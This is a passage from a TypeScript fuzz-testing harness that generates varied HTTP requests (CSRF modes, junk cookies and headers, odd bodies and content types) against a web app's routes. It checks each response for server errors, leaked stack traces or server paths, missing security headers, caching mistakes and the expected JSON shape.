      method: target.method === 'ALL' ? fc.constantFrom('GET', 'POST') : fc.constant(target.method),
      path: fc
        .array(fc.constantFrom('1', 'abc', 'x.json'), { minLength: 1, maxLength: 3 })
        .map((values) => fillPath(target.pattern, values)),
      proxied: fc.boolean(),
      member: fc.boolean(),
      body,
      clientAddress: fc.tuple(fc.nat(255), fc.nat(255)).map(([a, b]) => `198.19.${a}.${b}`),
    })
    .map((r) => ({
      target: `${target.method} ${target.pattern}`,
      method: r.method,
      origin: ORIGINS[0] ?? 'http://localhost',
      path: r.path,
      proxied: r.proxied,
      member: r.member,
      csrf: 'pair',
      csrfGarbage: '',
      cookies: [],
      headers: [],
      body: r.body,
      contentType: null,
      clientAddress: r.clientAddress,
    }));
}

/** Anything: wrong methods, odd paths and queries, garbage cookies and headers, every kind of body. */
function wildCase(target: FuzzTarget, options: CaseOptions): fc.Arbitrary<FuzzCase> {
  const ownMethod = target.method === 'ALL' ? fc.constantFrom(...METHODS) : fc.constant(target.method);
  return fc
    .record({
      method: fc.oneof({ weight: 3, arbitrary: ownMethod }, { weight: 1, arbitrary: fc.constantFrom(...METHODS) }),
      origin: fc.oneof(
        { weight: 4, arbitrary: fc.constant(ORIGINS[0] ?? 'http://localhost') },
        { weight: 1, arbitrary: fc.constantFrom(...ORIGINS) },
      ),
      path: fc
        .array(PATH_VALUES, { minLength: 1, maxLength: 3 })
        .chain((values) => pathVariant(fillPath(target.pattern, values))),
      query: queryArb,
      proxied: fc.boolean(),
      member: fc.boolean(),
      csrf: fc.oneof(
        { weight: 6, arbitrary: fc.constant<CsrfMode>('pair') },
        {
          weight: 2,
          arbitrary: fc.constantFrom<CsrfMode>('none', 'cookie-only', 'header-only', 'mismatch', 'garbage'),
        },
      ),
      csrfGarbage: garbageValue.map(cookieSafe),
      cookies: fc.array(
        fc.record({ name: fc.constantFrom(...COOKIE_NAMES), value: garbageValue.map(cookieSafe), first: fc.boolean() }),
        { maxLength: 3 },
      ),
      headers: fc.array(fc.tuple(fc.constantFrom(...HEADER_NAMES), headerValue.map(headerSafe)), { maxLength: 3 }),
      body: bodyArb(options.known, options.bodyLimitBytes),
      contentType: fc.oneof(
        { weight: 12, arbitrary: fc.constant(null) },
        { weight: 2, arbitrary: fc.constantFrom(...ODD_CONTENT_TYPES).map((value) => ({ value: headerSafe(value) })) },
        { weight: 1, arbitrary: fc.constant({ value: null }) },
      ),
      clientAddress: fc.oneof(
        { weight: 4, arbitrary: fc.tuple(fc.nat(255), fc.nat(255)).map(([a, b]) => `198.19.${a}.${b}`) },
        { weight: 1, arbitrary: fc.constantFrom(null, '::1', '::ffff:198.19.0.1', '2001:db8::1', '127.0.0.1') },
      ),
    })
    .map((r) => ({
      target: `${target.method} ${target.pattern}`,
      method: r.method,
      origin: r.origin,
      path: r.path + r.query,
      proxied: r.proxied,
      // Members only with a real session cookie first: garbage session cookies are a visitor's.
      member: r.member,
      csrf: r.csrf,
      csrfGarbage: r.csrfGarbage,
      cookies: r.member ? r.cookies.filter((k) => k.name !== 'meridian_session') : r.cookies,
      headers: r.headers,
      body: r.body,
      contentType: r.contentType,
      clientAddress: r.clientAddress,
    }));
}

/** A seed of its own per target, so adding a route does not change the other routes' cases. */
export function targetSeed(seed: number, target: FuzzTarget): number {
  let hash = seed | 0;
  for (const char of `${target.method} ${target.pattern}`) hash = (Math.imul(hash, 31) + char.charCodeAt(0)) | 0;
  return hash;
}

// ---- building and checking ---------------------------------------------------------------------

/** The cookies and csrf value a case's identity brings. */
export interface Identity {
  /** The real cookies (a member's session and bound csrftoken, or a visitor's csrftoken). */
  cookies: ReadonlyMap<string, string>;
  csrfToken: string;
}

const SAFE_TOKEN = 'Zk3_-'.repeat(9).slice(0, 43);

/** A request, and the body bytes it carries (for the report). */
export interface BuiltRequest {
  request: Request;
  body: { label: string; bytes: Uint8Array } | null;
}

/** The request a case stands for, sent as `identity`; `resolve` fills the handed-out values in. */
export function buildRequest(
  c: FuzzCase,
  identity: Identity,
  resolve: (name: string) => string | undefined = () => undefined,
): BuiltRequest {
  const headers = new Headers();
  for (const [name, value] of c.headers) headers.append(name, value);
  const real = new Map(identity.cookies);
  let csrfHeader: string | null = identity.csrfToken;
  switch (c.csrf) {
    case 'pair':
      break;
    case 'none':
      real.delete('csrftoken');
      csrfHeader = null;
      break;
    case 'cookie-only':
      csrfHeader = null;
      break;
    case 'header-only':
      real.delete('csrftoken');
      break;
    case 'mismatch':
      csrfHeader = SAFE_TOKEN;
      break;
    case 'garbage':
      real.set('csrftoken', c.csrfGarbage);
      csrfHeader = c.csrfGarbage;
      break;
  }
  if (csrfHeader !== null) headers.set('csrftoken', headerSafe(csrfHeader));
  const realPairs = [...real].map(([k, v]) => `${k}=${encodeURIComponent(v)}`);
  const before = c.cookies.filter((k) => k.first).map((k) => `${k.name}=${k.value}`);
  const after = c.cookies.filter((k) => !k.first).map((k) => `${k.name}=${k.value}`);
  const cookie = headerSafe([...before, ...realPairs, ...after].join('; '));
  if (cookie) headers.set('cookie', cookie);
  // Fetch refuses a body on GET and HEAD (a server would ignore it there anyway).
  const body = c.method === 'GET' || c.method === 'HEAD' ? null : c.body;
  const contentType = c.contentType ? c.contentType.value : (body?.contentType ?? null);
  if (contentType !== null && body) headers.set('content-type', contentType);
  const bytes = body ? fillSlots(body.bytes, resolve) : null;
  return {
    request: new Request(`${c.origin}${c.path}`, { method: c.method, headers, body: bytes ? bytes.slice() : null }),
    body: body && bytes ? { label: body.label, bytes } : null,
  };
}

/** What to print for a failing request: enough to replay it with curl or app.request. */
export function describeRequest({ request, body }: BuiltRequest, c: FuzzCase): string {
  let bodyText = '(none)';
  if (body) {
    const text = new TextDecoder('utf-8', { fatal: false }).decode(body.bytes);
    const shown = text.length > 600 ? `${text.slice(0, 600)}… (${body.bytes.length} bytes)` : text;
    bodyText = `${body.label}: ${JSON.stringify(shown)}${body.bytes.length <= 300 ? ` base64:${Buffer.from(body.bytes).toString('base64')}` : ''}`;
  }
  const headers = [...request.headers].map(
    ([k, v]) => `  ${k}: ${JSON.stringify(v.length > 300 ? `${v.slice(0, 300)}… (${v.length} chars)` : v)}`,
  );
  return [
    `${request.method} ${request.url.length > 400 ? `${request.url.slice(0, 400)}…` : request.url}`,
    `  (target ${c.target}; ${c.member ? 'logged in' : 'visitor'}; csrf ${c.csrf}; ${c.proxied ? 'trustProxy app' : 'plain app'}; client ${c.clientAddress ?? 'none'})`,
    ...headers,
    `  body ${bodyText}`,
  ].join('\n');
}

const envelope = z.object({ code: z.number().int(), message: z.string() });

/** A stack line, a source location or a server path: what an answer must never show. */
const STACK_LIKE = [
  /\n\s+at\s/,
  /^\s*at\s.+:\d+:\d+\)?$/m,
  /\bnode_modules\b/,
  /file:\/\//,
  /(?:\/work\/|\/home\/|\/usr\/lib\/|\/app\/src\/)/,
  /\.(?:[cm]?[jt]sx?):\d+/,
];

export function looksLikeStack(text: string): boolean {
  return STACK_LIKE.some((pattern) => pattern.test(text));
}

/** Gate v4's error body (decision 0033). */
const gateError = z.object({ label: z.string().min(1), message: z.string() });

/**
 * Everything wrong with one answer (empty when it is fine). `staticPrefixes`: bare-JSON files.
 * `gatePrefixes`: Gate v4 market data (decision 0033): public, bare JSON, errors as {label, message}.
 */
/**
 * Paths whose endpoint answers bare JSON rather than the {code, message, data} envelope (contracts
 * `envelope: false`, e.g. the business compliance check's {resMsg, datas}), from the contracts so
 * endpoints added later are known too. Their refusals keep the envelope.
 */
const BARE_ANSWER_PATHS: ReadonlySet<string> = new Set(
  Object.values(contracts).flatMap((value) =>
    typeof value === 'object' &&
    value !== null &&
    'path' in value &&
    typeof value.path === 'string' &&
    'envelope' in value &&
    value.envelope === false
      ? [value.path]
      : [],
  ),
);

export function answerProblems(
  request: Request,
  response: Response,
  text: string,
  staticPrefixes: readonly string[],
  gatePrefixes: readonly string[] = [],
): string[] {
  const problems: string[] = [];
  if (response.status >= 500) problems.push(`status ${response.status}`);
  if (looksLikeStack(text)) problems.push('the body shows a stack trace or a server path');
  for (const [name, value] of response.headers)
    if (looksLikeStack(value)) problems.push(`header ${name} shows a stack trace or a server path`);
  if (response.headers.get('x-content-type-options') !== 'nosniff')
    problems.push('X-Content-Type-Options is not nosniff');
  const path = new URL(request.url).pathname;
  // Answers may be personal (a session, a csrf cookie): no cache keeps them, except the public files found.
  const gate = gatePrefixes.some((p) => path.startsWith(p));
  // Shared caches keep public market data: a cookie on it would be everyone's.
  if (gate && response.status === 200 && response.headers.has('set-cookie'))
    problems.push('a public market answer sets a cookie');
  const publicFile =
    (response.status === 200 || response.status === 304) && (staticPrefixes.some((p) => path.startsWith(p)) || gate);
  const cacheControl = response.headers.get('cache-control');
  if (!publicFile && !/\bno-store\b/.test(cacheControl ?? ''))
    problems.push(`Cache-Control is ${cacheControl ?? '(none)'}, not no-store`);
  // HEAD and 304 answers have no body by definition.
  if (request.method === 'HEAD' || response.status === 304) return problems;
  let json: unknown;
  try {
    json = JSON.parse(text);
  } catch {
    problems.push(`the body is not JSON: ${JSON.stringify(text.slice(0, 200))}`);
    return problems;
  }
  if (!(response.headers.get('content-type') ?? '').startsWith('application/json'))
    problems.push(`content-type ${response.headers.get('content-type') ?? '(none)'}`);
  // The /js/tool files are the bare JSON objects they stand for (no envelope) when found.
  if (response.status === 200 && staticPrefixes.some((p) => path.startsWith(p))) {
    if (typeof json !== 'object' || json === null) problems.push('a static JSON file that is not an object');
    return problems;
  }
  // Gate v4 answers bare JSON, and refuses with {label, message} (unknown paths keep the envelope).
  if (gate && response.status === 200) return problems;
  if (gate && response.status === 400 && gateError.safeParse(json).success) return problems;
  if (response.status === 200 && BARE_ANSWER_PATHS.has(path)) {
    if (typeof json !== 'object' || json === null) problems.push('a bare answer that is neither an object nor a list');
    return problems;
  }
  const parsed = envelope.safeParse(json);
  if (!parsed.success) problems.push(`not a {code, message} envelope: ${JSON.stringify(text.slice(0, 200))}`);
  else if (response.status >= 400 && parsed.data.code !== response.status)
    problems.push(`code ${parsed.data.code} does not mirror status ${response.status}`);
  return problems;
}
